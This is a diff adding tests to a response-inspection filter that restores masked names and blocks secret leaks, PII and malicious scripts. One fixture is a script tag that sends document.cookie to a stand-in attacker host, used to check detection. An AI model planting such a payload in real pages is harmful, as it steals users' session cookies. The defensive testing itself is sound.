@@ -1,12 +1,14 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
+import { formatByName } from '@csg/shared/providers';
 import { createMaskDigest } from '../../../apps/desktop/src/cloud-client/mask-digest.ts';
 import { compilePolicy } from '../../../apps/desktop/src/inspect/compile-policy.ts';
 import type { DevicePolicy } from '../../../apps/desktop/src/inspect/device-policy.ts';
 import { evaluateResponse, watchResponse } from '../../../apps/desktop/src/inspect/evaluate-response.ts';
-import { newReading } from '../../../apps/desktop/src/inspect/request-reading.ts';
+import { newReading, type RequestReading } from '../../../apps/desktop/src/inspect/request-reading.ts';
 import { NO_MEMORY } from '../../../apps/desktop/src/inspect/text-memory.ts';
 import { testPolicy } from '../../support/desktop/stand.ts';
+import { ANSWER_FORMS } from '../../support/provider/answers.ts';
 
 // Put together here, so that no file holds a whole one.
 const KEY = ['sk', 'live', '51H8xQ2eZvKYlo2CzT9mNb4Rw7Gd'].join('_');
@@ -80,4 +82,80 @@ test('an event stream ends with a frame that names the event', () => {
   assert.ok(verdict.kind === 'block' && verdict.frame !== null);
   assert.match(verdict.frame, /event: error\ndata: .*The answer was held back/);
   assert.ok(verdict.frame.includes(verdict.event.eventId));
+});
+
+const MASK = '[NAME_ABCDEFGH]';
+/** A request in which `value` was masked. */
+const masking = (value: string): RequestReading =>
+  newReading({
+    format: formatByName('openai-chat'),
+    restores: { values: new Map([[MASK, { value, type: 'name' }]]), secretTools: {} },
+  });
+const answered = (
+  prompt: RequestReading,
+  text: string,
+  part: Partial<DevicePolicy> = {},
+  isEvents = false,
+) => {
+  const { chat } = ANSWER_FORMS;
+  const body = isEvents ? chat.frames({ text }).join('') : JSON.stringify(chat.whole({ text }));
+  return evaluateResponse(requestUnder(part), prompt, { kind: 'whole', bytes: bytes(body), isEvents }, tools);
+};
+
+test('what was masked is put back, whole and streamed; without a mask the response is as it came', async () => {
+  for (const isEvents of [false, true]) {
+    const verdict = await answered(masking('Anna Lindqvist'), `Dear ${MASK}, hello.`, {}, isEvents);
+    assert.ok(verdict.kind === 'forward' && verdict.bytes !== undefined);
+    const text = new TextDecoder().decode(verdict.bytes);
+    assert.equal(text.includes(MASK), false);
+    assert.match(text, isEvents ? /Lindqvist/ : /Dear Anna Lindqvist, hello\./);
+    for (const prompt of [masking('Anna'), newReading({ format: formatByName('openai-chat') })])
+      assert.deepEqual(await answered(prompt, 'Dear all, hello.', {}, isEvents), {
+        ...{ kind: 'forward', event: null, isUnanswered: false },
+      });
+  }
+});
+
+test('a response is judged as it was sent and as it is with the values put back', async () => {
+  const key = await answered(masking('Anna'), `Dear ${MASK}, use ${KEY}`);
+  assert.deepEqual([key.kind, key.event?.threatType], ['block', 'secret_leak']);
+  const script = masking('<script>fetch("https://evil.example/?c=" + document.cookie)</script>');
+  const ruleset = {
+    ...{ useCase: 'default', strictness: 'strict' },
+    policies: [{ id: 'p', action: 'block', threatTypes: ['malicious_script'] }],
+  } as const;
+  const blocked = await answered(script, `Dear ${MASK}, hello.`, { ruleset });
+  assert.deepEqual([blocked.kind, blocked.event?.threatType], ['block', 'malicious_script']);
+  const watched = await answered(script, `Dear ${MASK}, hello.`, { ruleset, mode: 'monitor' });
+  assert.ok(watched.kind === 'forward');
+  assert.deepEqual([watched.event?.done, watched.event?.threatType], ['forwarded', 'malicious_script']);
+  assert.ok(watched.bytes !== undefined, 'it passes with the value put back');
+  const both = await answered(script, `Dear ${MASK}, use ${KEY}`, { ruleset, mode: 'monitor' });
+  assert.equal(both.event?.threatType, 'secret_leak', 'the event is of what was sent');
+});
+
+test('a stream that is blocked ends in the form of its provider, other responses in none', async () => {
+  const prompt = newReading({ format: formatByName('openai-chat') });
+  const streamed = await answered(prompt, `use ${KEY}`, {}, true);
+  assert.ok(streamed.kind === 'block');
+  assert.match(streamed.frames ?? '', /^data: .*The answer was held back/m);
+  const whole = await answered(prompt, `use ${KEY}`);
+  const body = { kind: 'whole', bytes: bytes(`data: {"a":"use ${KEY}"}\n\n`), isEvents: true } as const;
+  const unknown = await evaluateResponse(requestUnder({}), newReading({}), body, tools);
+  for (const verdict of [whole, unknown]) {
+    assert.equal(verdict.kind, 'block');
+    assert.equal('frames' in verdict, false);
+  }
+});
+
+test('an exception of a stream is reported once, and what else is found in it still blocks', () => {
+  const exceptions = [{ id: 'exc_1', host: 'api.openai.com', threats: ['pii_leak' as const], untilMs: 10 }];
+  const { ruleset } = testPolicy();
+  const policies = [{ id: 'p', action: 'block', threatTypes: ['pii_leak'] }] as const;
+  const request = requestUnder({ exceptions, ruleset: { ...ruleset, policies } });
+  const watch = watchResponse(request, newReading({}), false, tools);
+  const first = watch.push(bytes('mail kim@example.com'));
+  assert.deepEqual([first.kind, first.event?.exceptionId], ['forward', 'exc_1']);
+  assert.deepEqual(watch.push(bytes(' or ann@example.com')), { kind: 'forward', event: null });
+  assert.equal(watch.push(bytes(` use ${KEY}`)).kind, 'block');
 });
